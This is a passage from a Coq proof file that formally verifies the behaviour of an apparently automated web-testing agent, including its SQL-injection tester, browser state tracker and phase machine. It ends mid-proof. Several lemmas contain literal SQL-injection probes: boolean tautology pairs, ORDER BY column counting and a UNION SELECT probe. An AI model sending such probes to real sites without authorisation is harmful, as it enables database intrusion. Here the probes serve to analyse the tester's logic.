Lemma quiet_run_agent {A : Type} (f : Agent.t W -> A * Agent.t W) :
  (forall a, runs_of (snd (f a)) = runs_of a) -> quiet (Agent.run_agent f).
Proof.
  intros H b. unfold Agent.run_agent, Agent.rule_runs. specialize (H (Agent.agent b)).
  destruct (f (Agent.agent b)) as [r a']. cbn in *. exact H.
Qed.








End ClassificationFacts.



(** Without an API key the oracle answers that the page is abnormal, in
    words that ask for the rules; the handlers take the answer as a
    verdict. *)
Example missing_credentials_verdict :
  fst (Agent._ask_llm_about_page_state (Scripted.ops Scenarios.keyless_site)
         "页面标题: Login" None (Scripted.fresh_agent "http://shop/login"))
  = (Some false, "无法使用LLM判断页面状态，请使用规则判断").
Proof. reflexivity. Qed.

(** ** Facts about the command loop *)

Section ExecutorFacts.

Variable W : Type.
Variable io : Session.ops W.
Variable plain_handler :
  string -> list string -> Agent.t W -> (list string * bool * bool) * Agent.t W.
Variable click_fallback :
  string -> string -> list string -> Agent.t W -> list string * Agent.t W.

Local Abbreviation batch := (Agent.batch W).
Local Abbreviation step := (Agent.step W).
Local Abbreviation flag := (@Agent.recovery_executed W).


































End ExecutorFacts.


(** ** Facts about the SQL-injection tester *)

Section TesterFacts.

Import SQLInjectionTester.

Variable W : Type.
Variable page : ops W.

Local Abbreviation state := (SQLInjectionTester.t W).
Local Abbreviation step := (SQLInjectionTester.step W).

(** A step that fills in payloads of the given list only. *)
Definition probes_within {A : Type} (allowed : list string) (m : step A) : Prop :=
  forall s, exists new,
    probes (snd (m s)) = (probes s ++ new)%list /\
    List.Forall (fun v => List.In v allowed) new.

Lemma probes_within_bind {A B : Type} allowed (m : step A) (k : A -> step B) :
  probes_within allowed m -> (forall x, probes_within allowed (k x)) ->
  probes_within allowed (bind m k).
Proof.
  intros Hm Hk s. unfold bind. destruct (Hm s) as (new1 & E1 & F1).
  destruct (m s) as [[x|e] s1]; cbn [snd] in *.
  - destruct (Hk x s1) as (new2 & E2 & F2).
    exists (new1 ++ new2)%list. split.
    + rewrite E2, E1, List.app_assoc. reflexivity.
    + apply List.Forall_app. split; assumption.
  - exists new1. split; assumption.
Qed.

Lemma probes_within_silent {A : Type} allowed (m : step A) :
  (forall s, calls (snd (m s)) = calls s) -> probes_within allowed m.
Proof.
  intros H s. exists []. split; [|constructor].
  unfold probes. rewrite H, List.app_nil_r. reflexivity.
Qed.

Lemma probes_within_ret {A : Type} allowed (x : A) :
  probes_within allowed (ret (W := W) x).
Proof. apply probes_within_silent. reflexivity. Qed.

Lemma probes_within_pause allowed : probes_within allowed (pause page).
Proof. apply probes_within_silent. reflexivity. Qed.

Lemma probes_within_record allowed d :
  probes_within allowed (record_test_result (W := W) d).
Proof. apply probes_within_silent. reflexivity. Qed.

Lemma probes_perform {A : Type} (c : call) (f : W -> outcome A * W) (s : state) :
  probes (snd (perform c f s)) =
  (probes s ++ match c with
               | Fill _ value => if PyStr.truthy value then [value] else []
               | _ => []
               end)%list.
Proof.
  unfold perform, probes. destruct (f (world s)) as [r w]. cbn [snd calls].
  rewrite List.flat_map_app. cbn [List.flat_map]. rewrite List.app_nil_r.
  reflexivity.
Qed.

Lemma probes_within_perform {A : Type} allowed (c : call) (f : W -> outcome A * W) :
  match c with
  | Fill _ value => PyStr.truthy value = true -> List.In value allowed
  | _ => True
  end ->
  probes_within allowed (perform c f).
Proof.
  intros Hc s. rewrite probes_perform. eexists. split; [reflexivity|].
  destruct c; try constructor.
  destruct (PyStr.truthy value); constructor; auto.
Qed.

Lemma probes_within_submit allowed (sel value : string) :
  List.In value allowed -> probes_within allowed (_input_and_submit page sel value).
Proof.
  intros Hin.
  assert (H : probes_within allowed (submit_body page sel value)).
  { unfold submit_body.
    apply probes_within_bind; [apply probes_within_perform; discriminate | intros _].
    apply probes_within_bind; [apply probes_within_perform; auto | intros _].
    apply probes_within_bind; [apply probes_within_perform; exact I | intros form].
    apply probes_within_bind.
    - destruct form; [apply probes_within_perform; exact I | apply probes_within_ret].
    - intros [|]; apply probes_within_perform; exact I. }
  intros s. exact (H s).
Qed.

Lemma probes_within_response_to allowed (sel value : string) :
  List.In value allowed -> probes_within allowed (response_to page sel value).
Proof.
  intros Hin. unfold response_to, get_page_text, back.
  apply probes_within_bind; [apply probes_within_submit; exact Hin | intros _].
  apply probes_within_bind; [apply probes_within_pause | intros _].
  apply probes_within_bind; [apply probes_within_perform; exact I | intros content].
  apply probes_within_bind; [apply probes_within_perform; exact I | intros _].
  apply probes_within_bind; [apply probes_within_pause | intros _].
  apply probes_within_ret.
Qed.

Lemma probes_within_boolean_pairs (sel : string) (payloads allowed : list string) :
  (forall v, List.In v payloads -> List.In v allowed) ->
  probes_within allowed (boolean_pairs page sel payloads).
Proof.
  revert payloads.
  fix IH 1. intros [|t [|f rest]] Hin; cbn [boolean_pairs].
  - apply probes_within_ret.
  - apply probes_within_ret.
  - apply probes_within_bind;
      [apply probes_within_response_to, Hin; left; reflexivity | intros tc].
    apply probes_within_bind;
      [apply probes_within_response_to, Hin; right; left; reflexivity | intros fc].
    destruct (_ && _)%bool; [apply probes_within_ret|].
    apply IH. intros v Hv. apply Hin. right. right. exact Hv.
Qed.

(** The payloads of the boolean test are no payload of the error test and
    no ORDER BY or UNION probe. *)
Lemma boolean_payloads_apart (v : string) :
  List.In v boolean_based ->
  ~ List.In v error_based /\
  PyStr.contains "ORDER BY" v = false /\
  PyStr.contains "UNION" v = false.
Proof.
  intros [<-|[<-|[<-|[<-|[]]]]]; repeat split; try reflexivity;
    intros H; vm_compute in H; intuition discriminate.
Qed.

(** C5: when the boolean test confirms the input point, the test of the
    input point logs the boolean finding, sets the types of the point to
    the boolean tag alone and returns true there: the page receives no call
    after the boolean test, and every payload typed into it since the test
    began is a payload of the boolean test, hence no payload of the error
    test and no ORDER BY or UNION probe. *)
Theorem boolean_finding_ends_the_test (p : input_point) (idx : Z)
    (s s1 s2 : state) (original_content : string) (bool_results : results) :
  get_page_text page (snd (record_test_result (announcement p idx) s))
  = (Returns original_content, s1) ->
  _test_boolean_injection page p.(selector) original_content s1
  = (Returns bool_results, s2) ->
  bool_results.(vulnerable) = true ->
  let logged :=
    snd (record_test_result
           (finding idx "_boolean"
              ("发现布尔型SQL注入漏洞: " ++ bool_results.(details))) s2) in
  _test_input_point page p idx s
  = (Returns (true, mark_vulnerable ["sql_injection_boolean"] p), logged) /\
  (mark_vulnerable ["sql_injection_boolean"] p).(vulnerability_types)
  = Some ["sql_injection_boolean"] /\
  logged.(calls) = s2.(calls) /\
  logged.(world) = s2.(world) /\
  exists typed,
    probes logged = (probes s ++ typed)%list /\
    List.Forall (fun v => List.In v boolean_based /\
                          ~ List.In v error_based /\
                          PyStr.contains "ORDER BY" v = false /\
                          PyStr.contains "UNION" v = false) typed.
Proof.
  intros Hopen Hbool Hvulnerable logged.
  split; [|split; [reflexivity | split; [reflexivity | split; [reflexivity|]]]].
  - unfold _test_input_point, bind.
    change (record_test_result (announcement p idx) s)
      with (Returns tt, snd (record_test_result (announcement p idx) s)).
    cbv iota. rewrite Hopen. cbv iota. rewrite Hbool. cbv iota.
    rewrite Hvulnerable. reflexivity.
  - destruct (@probes_within_boolean_pairs p.(selector) boolean_based boolean_based
                (fun v H => H) s1) as (typed & Htyped & Hall).
    unfold _test_boolean_injection in Hbool. rewrite Hbool in Htyped.
    cbn [snd] in Htyped.
    exists typed. split.
    + change (probes logged) with (probes s2). rewrite Htyped. f_equal.
      unfold get_page_text in Hopen.
      pose proof (probes_perform InnerText page.(inner_text)
                    (snd (record_test_result (announcement p idx) s))) as Hp.
      rewrite Hopen in Hp. cbn [snd] in Hp. rewrite Hp, List.app_nil_r.
      reflexivity.
    + eapply List.Forall_impl; [|exact Hall].
      intros v Hv. split; [exact Hv | apply boolean_payloads_apart, Hv].
Qed.

End TesterFacts.

(** On the search form that satisfies both oracles the test returns after
    the first pair of the boolean test: the point carries the boolean tag
    alone and the two payloads of the pair are all the page was sent,
    although the first payload of the error test would have been confirmed
    as well. *)
Lemma boolean_finding_ends_the_test_witness :
  let p := ScriptedPage.text_input "q" in
  let done := SQLInjectionTester._test_input_point Scenarios.leaky_page p 0
                Scenarios.fresh_tester in
  fst done
  = Returns (true, SQLInjectionTester.mark_vulnerable ["sql_injection_boolean"] p) /\
  SQLInjectionTester.probes (snd done) = ["1' AND '1'='1"; "1' AND '1'='2"] /\
  match fst (SQLInjectionTester._test_error_injection Scenarios.leaky_page
               p.(SQLInjectionTester.selector) "Search" Scenarios.fresh_tester) with
  | Returns error_results => error_results.(SQLInjectionTester.vulnerable) = true
  | Raises _ => False
  end.
Proof.
  intros p done.
  pose (opened :=
          snd (SQLInjectionTester.get_page_text Scenarios.leaky_page
                 (snd (SQLInjectionTester.record_test_result
                         (SQLInjectionTester.announcement p 0)
                         Scenarios.fresh_tester)))).
  pose (tested :=
          SQLInjectionTester._test_boolean_injection Scenarios.leaky_page
            p.(SQLInjectionTester.selector) "Search" opened).
  destruct (@boolean_finding_ends_the_test _ Scenarios.leaky_page p 0
              Scenarios.fresh_tester opened (snd tested) "Search"
              (match fst tested with
               | Returns r => r
               | Raises _ => SQLInjectionTester.no_finding
               end))
    as (Hrun & _ & _ & _ & typed & Htyped & _).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - subst done. rewrite Hrun. split; [reflexivity|].
    split; vm_compute; reflexivity.
Defined.

(** The column discovery on a query of three columns: the probes run with
    the three prefixes for N = 1, 2, 3 and stop at the first complaint, for
    N = 4, with the count 3. *)
Lemma three_columns_discovered (baseline sel : string) (respond : string -> string)
    (s : SQLInjectionTester.t ScriptedPage.world) :
  (forall n base,
      List.In n [1; 2; 3] -> List.In base SQLInjectionTester.order_by_bases ->
      PyStr.contains_any SQLInjectionTester.error_indicators
        (PyStr.lower (respond (base ++ " " ++ PyStr.of_Z n ++ "-- "))) = false) ->
  PyStr.contains_any SQLInjectionTester.error_indicators
    (PyStr.lower (respond "' ORDER BY 4-- ")) = true ->
  fst (SQLInjectionTester.discover_columns (ScriptedPage.ops baseline respond) sel s)
  = Returns (3, "' ORDER BY 4-- ").
Proof.
  intros Hok Hfail.
  assert (Hprobe : forall n s',
             List.In n [1; 2; 3] ->
             SQLInjectionTester.order_by_bases_loop (ScriptedPage.ops baseline respond)
               sel n SQLInjectionTester.order_by_bases s'
             = (Returns None,
                snd (SQLInjectionTester.order_by_bases_loop
                       (ScriptedPage.ops baseline respond)
                       sel n SQLInjectionTester.order_by_bases s'))).
  { intros n s' Hn.
    pose proof (Hok n "' ORDER BY" Hn (or_introl eq_refl)) as H1.
    pose proof (Hok n (PyStr.dquote ++ " ORDER BY") Hn (or_intror (or_introl eq_refl))) as H2.
    pose proof (Hok n ") ORDER BY" Hn (or_intror (or_intror (or_introl eq_refl)))) as H3.
    unfold SQLInjectionTester.order_by_bases.
    cbn -[PyStr.contains_any PyStr.lower PyStr.of_Z String.append
          SQLInjectionTester.error_indicators].
    rewrite H1.
    cbn -[PyStr.contains_any PyStr.lower PyStr.of_Z String.append
          SQLInjectionTester.error_indicators].
    rewrite H2.
    cbn -[PyStr.contains_any PyStr.lower PyStr.of_Z String.append
          SQLInjectionTester.error_indicators].
    rewrite H3. reflexivity. }
  unfold SQLInjectionTester.discover_columns.
  change (SQLInjectionTester.one_to 10) with [1; 2; 3; 4; 5; 6; 7; 8; 9; 10].
  cbn [SQLInjectionTester.order_by_loop]. unfold SQLInjectionTester.bind at 1.
  rewrite (Hprobe 1 s) by (simpl; auto). cbv iota beta.
  change (0 >? 0) with false. cbv iota.
  cbn [SQLInjectionTester.order_by_loop]. unfold SQLInjectionTester.bind at 1.
  rewrite (Hprobe 2) by (simpl; auto). cbv iota beta.
  change (0 >? 0) with false. cbv iota.
  cbn [SQLInjectionTester.order_by_loop]. unfold SQLInjectionTester.bind at 1.
  rewrite (Hprobe 3) by (simpl; auto). cbv iota beta.
  change (0 >? 0) with false. cbv iota.
  cbn [SQLInjectionTester.order_by_loop]. unfold SQLInjectionTester.bind at 1.
  unfold SQLInjectionTester.order_by_bases.
  cbn -[PyStr.contains_any PyStr.lower SQLInjectionTester.error_indicators].
  rewrite Hfail. reflexivity.
Qed.

(** C4: on a form that answers every submission with a validation message
    the probe for N = 1 already meets an error indicator, which sets the
    count to 0; the discovery does not stop there: it goes on to N = 2,
    reports one column, and the UNION probe for one column is sent. *)
Theorem column_discovery_outlives_first_failure :
  let sel := (ScriptedPage.text_input "q").(SQLInjectionTester.selector) in
  fst (SQLInjectionTester.order_by_bases_loop Scenarios.strict_page sel 1
         SQLInjectionTester.order_by_bases Scenarios.fresh_tester)
  = Returns (Some (0, "' ORDER BY 1-- ")) /\
  fst (SQLInjectionTester.discover_columns Scenarios.strict_page sel
         Scenarios.fresh_tester)
  = Returns (1, "' ORDER BY 2-- ") /\
  SQLInjectionTester.probes
    (snd (SQLInjectionTester._test_union_injection Scenarios.strict_page sel "Search"
            Scenarios.fresh_tester))
  = ["' ORDER BY 1-- "; "' ORDER BY 2-- "; "' UNION SELECT 1-- "].
Proof.
  cbv zeta. repeat split; vm_compute; reflexivity.
Qed.

(** The query of three columns of the scenarios, run: the count is 3. *)
Example three_column_page_count :
  fst (SQLInjectionTester.discover_columns Scenarios.three_column_page
         (ScriptedPage.text_input "q").(SQLInjectionTester.selector)
         Scenarios.fresh_tester)
  = Returns (3, "' ORDER BY 4-- ").
Proof. vm_compute. reflexivity. Qed.

(* ================================================================== *)
(** * Part III: further properties of the code *)
(* ================================================================== *)

(** ** The tracker: the error count and the stable pointer *)

Section TrackerCounters.

Import BrowserStateTracker.

Lemma existsb_snoc {A : Type} (f : A -> bool) (l : list A) (x : A) :
  List.existsb f (l ++ [x]) = (List.existsb f l || f x)%bool.
Proof. rewrite List.existsb_app. simpl. rewrite orb_false_r. reflexivity. Qed.

Lemma after_last_snoc {A : Type} (f : A -> bool) (l : list A) (x : A) :
  after_last f (l ++ [x]) = if f x then [] else (after_last f l ++ [x])%list.
Proof.
  induction l as [|y l IH]; simpl.
  - destruct (f x); reflexivity.
  - rewrite existsb_snoc, IH.
    destruct (f x) eqn:Hx.
    + rewrite orb_true_r. reflexivity.
    + rewrite orb_false_r. destruct (List.existsb f l); [reflexivity|].
      destruct (f y); reflexivity.
Qed.

Lemma run_ops_snoc (os : list op) (o : op) (s : t) :
  run_ops (os ++ [o]) s = do_op o (run_ops os s).
Proof. unfold run_ops. rewrite List.fold_left_app. reflexivity. Qed.

Lemma last_set_snoc {A : Type} (l : list (option A)) (o : option A) :
  last_set (l ++ [o]) = match o with Some x => Some x | None => last_set l end.
Proof. unfold last_set. rewrite List.fold_left_app. reflexivity. Qed.

(** The fields a record leaves alone, and the ones a stable record of an
    accepted URL resets. *)
Lemma record_url_error_fields (u : string) (stable : bool) (ti : string) (now : Z) (s : t) :
  let s' := record_url u stable ti now s in
  let reset := (stable && negb (ignored_url u))%bool in
  s'.(consecutive_errors) = (if reset then 0 else s.(consecutive_errors)) /\
  s'.(has_error) = (if reset then false else s.(has_error)) /\
  s'.(error_details) = (if reset then None else s.(error_details)) /\
  s'.(last_stable_url) = (if reset then Some u else s.(last_stable_url)) /\
  s'.(auto_recovery) = s.(auto_recovery).
Proof.
  unfold record_url. destruct (ignored_url u); [destruct stable; simpl; auto|].
  destruct stable; simpl; auto.
Qed.

(** What every operation keeps of the error state. *)
Record error_state (os : list op) (s : t) : Prop := {
  es_count :
    s.(consecutive_errors)
    = Z.of_nat (List.length (List.filter is_mark_error (after_last settles os)));
  es_flag : s.(has_error) = true ->
            1 <= s.(consecutive_errors) /\ s.(error_details) <> None;
  es_pointer :
    s.(last_stable_url) = last_set (List.map stable_url_of (after_last is_clear os))
}.

Lemma run_ops_error_state (mh : Z) (ar : bool) (os : list op) :
  error_state os (run_ops os (init mh ar)).
Proof.
  induction os as [|o os IH] using List.rev_ind.
  - split; simpl; [reflexivity | discriminate | reflexivity].
  - rewrite run_ops_snoc. destruct IH as [Hc Hf Hp].
    set (s := run_ops os (init mh ar)) in *.
    split; rewrite ?after_last_snoc.
    + destruct o as [[u stable ti now | u d now] | |]; cbn [do_op do_call settles].
      * destruct (record_url_error_fields u stable ti now s) as (E & _). rewrite E.
        destruct (stable && negb (ignored_url u))%bool; [reflexivity|].
        rewrite List.filter_app, List.length_app. simpl. lia.
      * unfold mark_error.
        destruct (record_url_error_fields u false PyStr.empty now
          {| url_history := url_history s; state_history := state_history s;
             last_stable_url := last_stable_url s; max_history := max_history s;
             has_error := true; error_details := Some d;
             auto_recovery := auto_recovery s;
             consecutive_errors := consecutive_errors s + 1 |}) as (E & _).
        rewrite E. cbn [andb consecutive_errors].
        rewrite List.filter_app, List.length_app. simpl. lia.
      * reflexivity.
      * simpl. rewrite List.filter_app, List.length_app. simpl. lia.
    + destruct o as [[u stable ti now | u d now] | |]; cbn [do_op do_call].
      * destruct (record_url_error_fields u stable ti now s) as (E1 & E2 & E3 & _).
        rewrite E1, E2, E3.
        destruct (stable && negb (ignored_url u))%bool; [discriminate | exact Hf].
      * unfold mark_error.
        destruct (record_url_error_fields u false PyStr.empty now
          {| url_history := url_history s; state_history := state_history s;
             last_stable_url := last_stable_url s; max_history := max_history s;
             has_error := true; error_details := Some d;
             auto_recovery := auto_recovery s;
             consecutive_errors := consecutive_errors s + 1 |}) as (E1 & E2 & E3 & _).
        rewrite E1, E3. cbn [andb consecutive_errors error_details]. intros _.
        split; [|discriminate]. rewrite Hc. lia.
      * simpl. discriminate.
      * simpl. discriminate.
    + destruct o as [[u stable ti now | u d now] | |]; cbn [do_op do_call is_clear].
      * destruct (record_url_error_fields u stable ti now s) as (_ & _ & _ & E & _).
        rewrite E, List.map_app. cbn [List.map]. rewrite last_set_snoc. cbn [stable_url_of].
        destruct stable; cbn [andb]; [|exact Hp].
        destruct (ignored_url u); [exact Hp | reflexivity].
      * unfold mark_error.
        destruct (record_url_error_fields u false PyStr.empty now
          {| url_history := url_history s; state_history := state_history s;
             last_stable_url := last_stable_url s; max_history := max_history s;
             has_error := true; error_details := Some d;
             auto_recovery := auto_recovery s;
             consecutive_errors := consecutive_errors s + 1 |}) as (_ & _ & _ & E & _).
        rewrite E, List.map_app. cbn [List.map]. rewrite last_set_snoc.
        cbn [andb last_stable_url stable_url_of].
        exact Hp.
      * reflexivity.
      * rewrite List.map_app. cbn [List.map]. rewrite last_set_snoc. exact Hp.
Qed.

Lemma mark_error_error_fields (u d : string) (now : Z) (s : t) :
  let s' := mark_error u d now s in
  s'.(consecutive_errors) = s.(consecutive_errors) + 1 /\
  s'.(has_error) = true /\
  s'.(auto_recovery) = s.(auto_recovery).
Proof.
  unfold mark_error.
  match goal with
  | |- context [record_url u false PyStr.empty now ?s1] =>
      destruct (record_url_error_fields u false PyStr.empty now s1)
        as (E1 & E2 & _ & _ & E5)
  end.
  cbv zeta. rewrite E1, E2, E5. simpl. auto.
Qed.

Lemma reachable_error_state (s : t) :
  reachable s -> exists os, error_state os s.
Proof.
  intros (mh & ar & os & ->). exists os. apply run_ops_error_state.
Qed.

Lemma last_set_in {A : Type} (l : list (option A)) (x : A) :
  last_set l = Some x -> List.In (Some x) l.
Proof.
  induction l as [|o l IH] using List.rev_ind; [discriminate|].
  rewrite last_set_snoc. intros H. apply List.in_or_app.
  destruct o as [y|].
  - right. left. exact H.
  - left. apply IH, H.
Qed.

Lemma stable_url_of_accepted (o : op) (u : string) :
  stable_url_of o = Some u -> ignored_url u = false.
Proof.
  destruct o as [[v [|] ti now | v d now] | |]; simpl; try discriminate.
  destruct (ignored_url v) eqn:Hv; [discriminate|].
  intros H. injection H as <-. exact Hv.
Qed.

Lemma reachable_pointer_accepted (s : t) (u : string) :
  reachable s -> s.(last_stable_url) = Some u -> ignored_url u = false.
Proof.
  intros Hr Hu. destruct (reachable_error_state Hr) as (os & [_ _ Hp]).
  rewrite Hp in Hu. apply last_set_in, List.in_map_iff in Hu.
  destruct Hu as (o & Ho & _). eapply stable_url_of_accepted, Ho.
Qed.

Lemma ignored_url_spelled (u : string) :
  ignored_url u = false -> u <> EmptyString /\ u <> "about:blank".
Proof.
  unfold ignored_url. intros H. apply orb_false_iff in H. destruct H as [H1 H2].
  split; intros ->; simpl in *; discriminate.
Qed.

(** X1.  The count of consecutive errors of a tracker is the number of
    [mark_error] calls since the last operation that settled the page: the
    stable record of an accepted URL, or [clear].  Records of an ignored
    URL, unstable records and the reset of the flag by BACK leave it as it
    is.  While the error flag is up the count is at least 1 and the
    details of the error are set. *)
Theorem consecutive_errors_since_settled (mh : Z) (ar : bool) (os : list op) :
  let s := run_ops os (init mh ar) in
  s.(consecutive_errors)
  = Z.of_nat (List.length (List.filter is_mark_error (after_last settles os))) /\
  (s.(has_error) = true -> 1 <= s.(consecutive_errors) /\ s.(error_details) <> None).
Proof.
  intros s. destruct (run_ops_error_state mh ar os) as [Hc Hf _].
  split; [exact Hc | exact Hf].
Qed.

(** X2.  The stable pointer of a tracker is the URL of the latest stable
    record of an accepted URL since the last [clear], whatever the
    capacity of the history: the eviction of the entry from the history
    does not unset it. *)
Theorem last_stable_url_is_latest_stable_record (mh : Z) (ar : bool) (os : list op) :
  (run_ops os (init mh ar)).(last_stable_url)
  = last_set (List.map stable_url_of (after_last is_clear os)).
Proof.
  destruct (run_ops_error_state mh ar os) as [_ _ Hp]. exact Hp.
Qed.

(** X3.  On a reachable tracker a recovery URL is never empty and never
    about:blank, and there is none exactly when the stable pointer is
    unset and the history is empty. *)
Theorem recovery_url_was_accepted (s : t) :
  reachable s ->
  (forall u, get_recovery_url s = Some u -> u <> EmptyString /\ u <> "about:blank") /\
  (get_recovery_url s = None <-> s.(last_stable_url) = None /\ s.(url_history) = []).
Proof.
  intros Hr. pose proof (reachable_wellformed Hr) as [Hu He Hp].
  pose proof (@reachable_pointer_accepted s) as Hacc.
  unfold get_recovery_url.
  destruct (last_stable_url s) as [p|] eqn:Hptr.
  - cbn [truthy_url]. rewrite Hp. split.
    + intros u H. injection H as <-. apply ignored_url_spelled, Hacc; auto.
    + split; [discriminate | intros [H _]; discriminate].
  - cbn [truthy_url].
    rewrite find_none_of_Forall
      by (apply List.Forall_rev, Forall_removelast, Hp).
    assert (Hin : forall u, List.In u (url_history s) ->
                            u <> EmptyString /\ u <> "about:blank").
    { intros u Hin. rewrite Hu in Hin. apply List.in_map_iff in Hin.
      destruct Hin as (e & <- & Hin). apply ignored_url_spelled.
      rewrite List.Forall_forall in He. apply He, Hin. }
    destruct (Nat.ltb 1 (List.length (url_history s))) eqn:Hn.
    + apply Nat.ltb_lt in Hn. split.
      * intros u H. apply Hin. eapply List.nth_error_In, H.
      * split.
        -- intros H. apply List.nth_error_None in H. lia.
        -- intros [_ H]. rewrite H in Hn. simpl in Hn. lia.
    + split.
      * intros u H. apply Hin. destruct (url_history s); [discriminate|].
        injection H as <-. left. reflexivity.
      * destruct (url_history s); simpl; split; auto; try discriminate.
        intros [_ H]. discriminate.
Qed.

(** X4.  On a reachable tracker: two [mark_error] calls in a row make
    [should_auto_recover] hold, also with auto-recovery disabled; after one
    call it holds when auto-recovery is enabled or an error was already
    counted; the stable record of an accepted URL withdraws it. *)
Theorem should_auto_recover_after_errors (s : t) (u1 d1 u2 d2 u ti : string)
    (t1 t2 now : Z) :
  reachable s ->
  should_auto_recover (mark_error u2 d2 t2 (mark_error u1 d1 t1 s)) = true /\
  should_auto_recover (mark_error u1 d1 t1 s)
  = (s.(auto_recovery) || (1 <=? s.(consecutive_errors)))%bool /\
  (ignored_url u = false ->
   should_auto_recover (record_url u true ti now s) = false).
Proof.
  intros Hr. destruct (reachable_error_state Hr) as (os & [Hc _ _]).
  assert (H0 : 0 <= consecutive_errors s) by (rewrite Hc; lia).
  destruct (mark_error_error_fields u1 d1 t1 s) as (E1 & F1 & A1).
  destruct (mark_error_error_fields u2 d2 t2 (mark_error u1 d1 t1 s)) as (E2 & F2 & A2).
  unfold should_auto_recover. rewrite E2, E1, F1, A1. repeat split.
  - destruct (Z.geb_spec (consecutive_errors s + 1 + 1) 2); [reflexivity | lia].
  - destruct (Z.geb_spec (consecutive_errors s + 1) 2);
      destruct (Z.leb_spec 1 (consecutive_errors s)); try lia;
      destruct (auto_recovery s); reflexivity.
  - intros Hu.
    destruct (record_url_error_fields u true ti now s) as (E & F & _).
    rewrite E, F, Hu. reflexivity.
Qed.

End TrackerCounters.

(** A tracker that saw one error on the cart page and no stable page: the
    recovery URL is the cart page itself. *)
Lemma recovery_url_was_accepted_witness :
  let s := BrowserStateTracker.run_ops
             [BrowserStateTracker.Call
                (BrowserStateTracker.MarkError "http://shop/cart" "boom" 1)]
             (BrowserStateTracker.init 10 true) in
  BrowserStateTracker.get_recovery_url s = Some "http://shop/cart" /\
  "http://shop/cart" <> "about:blank".
Proof.
  intros s. split; [reflexivity|].
  destruct (@recovery_url_was_accepted s) as [H _].
  - exists 10, true,
      [BrowserStateTracker.Call
         (BrowserStateTracker.MarkError "http://shop/cart" "boom" 1)].
    reflexivity.
  - apply (H "http://shop/cart"). reflexivity.
Defined.

(** With auto-recovery disabled, the second error in a row asks for the
    recovery all the same. *)
Lemma should_auto_recover_after_errors_witness :
  let s := BrowserStateTracker.init 10 false in
  BrowserStateTracker.should_auto_recover
    (BrowserStateTracker.mark_error "http://shop/cart" "boom" 1 s) = false /\
  BrowserStateTracker.should_auto_recover
    (BrowserStateTracker.mark_error "http://shop/cart" "boom" 2
       (BrowserStateTracker.mark_error "http://shop/cart" "boom" 1 s)) = true.
Proof.
  intros s. split; [reflexivity|].
  destruct (@should_auto_recover_after_errors s "http://shop/cart" "boom"
              "http://shop/cart" "boom" "http://shop" "Shop" 1 2 3) as [H _].
  - exists 10, false, []. reflexivity.
  - exact H.
Defined.

(** ** The phase machine: what is recorded, and when *)

(** Case analysis on every condition of the goal. *)
Ltac branch_ifs :=
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b eqn:?
         end.

Section PhaseRecords.

Import TestFramework.

(** [process_command] on a command that is not empty, step by step. *)
Lemma process_command_steps (command : string) (now : Z) (s : t) :
  PyStr.truthy command = true ->
  process_command command now s =
  let u := _update_state_from_command (verb_of command) (content_of command) now
             (bump_counter s) in
  let '(intro, s3) := _check_phase_intro u in
  match nonempty intro with
  | Some m => (Some m, s3)
  | None =>
      let '(send, s4) := _should_send_guidance now s3 in
      if send then (Some (_get_guidance_message s4), s4)
      else (nonempty (_check_event_guidance (verb_of command) (content_of command) s4),
            s4)
  end.
Proof.
  intros H. unfold process_command, verb_of, content_of. rewrite H. cbn [negb].
  destruct (PyStr.split_space_once command) as [ty rest]. reflexivity.
Qed.

(** The part of the state a command writes outside the update. *)
Definition records (s : t) : list mechanism * list input_point * list discovery :=
  (s.(security_mechanisms), s.(input_points), s.(discoveries)).

Lemma check_phase_intro_records (s : t) :
  records (snd (_check_phase_intro s)) = records s /\
  (snd (_check_phase_intro s)).(command_counter) = s.(command_counter).
Proof. unfold _check_phase_intro. destruct (negb _); split; reflexivity. Qed.

Lemma should_send_guidance_records (now : Z) (s : t) :
  records (snd (_should_send_guidance now s)) = records s /\
  (snd (_should_send_guidance now s)).(command_counter) = s.(command_counter) /\
  (snd (_should_send_guidance now s)).(phase_intro_sent) = s.(phase_intro_sent).
Proof. unfold _should_send_guidance. branch_ifs; repeat split; reflexivity. Qed.

(** After the update, a command writes no record and no count. *)
Lemma process_command_records (command : string) (now : Z) (s : t) :
  PyStr.truthy command = true ->
  let u := _update_state_from_command (verb_of command) (content_of command) now
             (bump_counter s) in
  let s' := snd (process_command command now s) in
  records s' = records u /\ s'.(command_counter) = u.(command_counter).
Proof.
  intros H. cbv zeta. rewrite (@process_command_steps command now s H). cbv zeta.
  set (u := _update_state_from_command _ _ _ _).
  destruct (check_phase_intro_records u) as [R1 C1].
  destruct (_check_phase_intro u) as [intro s3]. cbn [snd] in *.
  destruct (nonempty intro); [split; assumption|].
  destruct (should_send_guidance_records now s3) as (R2 & C2 & _).
  destruct (_should_send_guidance now s3) as [send s4]. cbn [snd] in *.
  destruct send; cbn [snd]; split; congruence.
Qed.

(** The types of the mechanisms the machine knows. *)
Definition mechanism_types : list string := ["captcha"; "csrf"].

(** No mechanism type and no selector is recorded twice. *)
Record distinct_records (s : t) : Prop := {
  dr_mechanisms : List.NoDup (List.map mech_type s.(security_mechanisms));
  dr_types : List.Forall (fun m => List.In m.(mech_type) mechanism_types)
                         s.(security_mechanisms);
  dr_points : List.NoDup (List.map selector s.(input_points))
}.

Lemma distinct_records_ext (s s' : t) :
  s'.(security_mechanisms) = s.(security_mechanisms) ->
  s'.(input_points) = s.(input_points) ->
  distinct_records s -> distinct_records s'.
Proof. intros Hm Hi [A B C]. split; rewrite ?Hm, ?Hi; assumption. Qed.

Lemma not_recorded {A : Type} (key : A -> string) (k : string) (l : list A) :
  List.existsb (fun x => String.eqb (key x) k) l = false ->
  ~ List.In k (List.map key l).
Proof.
  intros H Hin. apply List.in_map_iff in Hin. destruct Hin as (x & Hx & Hin).
  assert (E : List.existsb (fun x => String.eqb (key x) k) l = true).
  { apply List.existsb_exists. exists x. split; [exact Hin|].
    rewrite Hx. apply String.eqb_refl. }
  congruence.
Qed.

Lemma NoDup_snoc {A : Type} (l : list A) (x : A) :
  List.NoDup l -> ~ List.In x l -> List.NoDup (l ++ [x]).
Proof.
  intros Hl Hx. apply List.NoDup_rev in Hl.
  rewrite <- (List.rev_involutive (l ++ [x])). apply List.NoDup_rev.
  rewrite List.rev_app_distr. simpl. constructor; [|exact Hl].
  rewrite <- List.in_rev. exact Hx.
Qed.

Lemma add_mechanism_distinct (ty d : string) (now : Z) (s : t) :
  List.In ty mechanism_types ->
  distinct_records s -> distinct_records (_add_security_mechanism ty d now s).
Proof.
